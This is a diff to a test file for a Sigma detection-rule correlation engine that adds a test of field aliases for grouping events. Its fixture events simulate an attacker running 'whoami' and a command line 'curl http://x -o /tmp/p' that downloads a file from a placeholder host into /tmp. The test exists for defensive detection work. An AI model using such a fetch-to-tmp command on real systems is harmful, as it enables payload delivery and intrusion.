@@ -76,9 +76,22 @@ describe('sigmaRules plugin', () => {
     expect((await run(generating, events)).map((a) => a.rule.id).sort()).toEqual(['download', 'recon']);
   });
 
+  it('aliases: events of each rule group by their own field', async () => {
+    // recon runs as the attacker; the download is logged with the attacker as parent user and a service account as user.
+    const events = [exec('mallory', 'whoami', 0), makeEvent({ at: sec(5), hostname: 'web1', category: 'auditd', details: { syscall: 'execve', username: 'svc', parentuser: 'mallory', cmdline: 'curl http://x -o /tmp/p' } })];
+    const byUser = correlation('  type: temporal\n  rules: [recon, download]\n  group-by: [User]\n  timespan: 1m');
+    expect(await run(byUser, events)).toEqual([]);
+    const aliased = correlation('  type: temporal\n  rules: [recon, download]\n  group-by: [actor, Hostname]\n  timespan: 1m\n  aliases:\n    actor:\n      recon: User\n      download: parentuser');
+    const alerts = await run(aliased, events);
+    expect(alerts.map((a) => a.rule.id)).toEqual(['corr']);
+    expect(alerts[0]!.details!['key']).toBe('mallory|web1');
+    expect(() => parseSigmaRules(correlation('  type: temporal\n  rules: [recon, download]\n  group-by: [actor]\n  timespan: 1m\n  aliases:\n    actor:\n      recon: User'))).toThrow(/alias 'actor' has no field for rule 'download'/);
+    expect(() => parseSigmaRules(correlation('  type: temporal\n  rules: [recon, download]\n  group-by: [actor]\n  timespan: 1m\n  aliases:\n    actor:\n      recon: User\n      download: User\n      other: User'))).toThrow(/names rule 'other', which the correlation does not refer to/);
+  });
+
   it('refuses correlation features it cannot run, naming the rule', () => {
     expect(() => parseSigmaRules(correlation('  type: event_count\n  rules: [recon]\n  timespan: 1m\n  condition: {lt: 3}'))).toThrow(/Sigma rule "Corr" \(corr\): condition operator 'lt'/);
-    expect(() => parseSigmaRules(correlation('  type: event_count\n  rules: [recon]\n  timespan: 1m\n  aliases: {}\n  condition: {gte: 3}'))).toThrow(/feature 'correlation.aliases'/);
+    expect(() => parseSigmaRules(correlation('  type: event_count\n  rules: [recon]\n  timespan: 1m\n  fields: [x]\n  condition: {gte: 3}'))).toThrow(/feature 'correlation.fields'/);
     expect(() => parseSigmaRules(correlation('  type: value_percentile\n  rules: [recon]\n  timespan: 1m'))).toThrow(/correlation type 'value_percentile'/);
     expect(() => parseSigmaRules(correlation('  type: value_sum\n  rules: [recon]\n  timespan: 1m\n  condition: {gt: 5}'))).toThrow(/value_sum needs condition.field/);
     expect(() => parseSigmaRules(correlation('  type: value_avg\n  rules: [recon]\n  timespan: 1m\n  condition: {field: x, lte: 5}'))).toThrow(/condition operator 'lte'/);
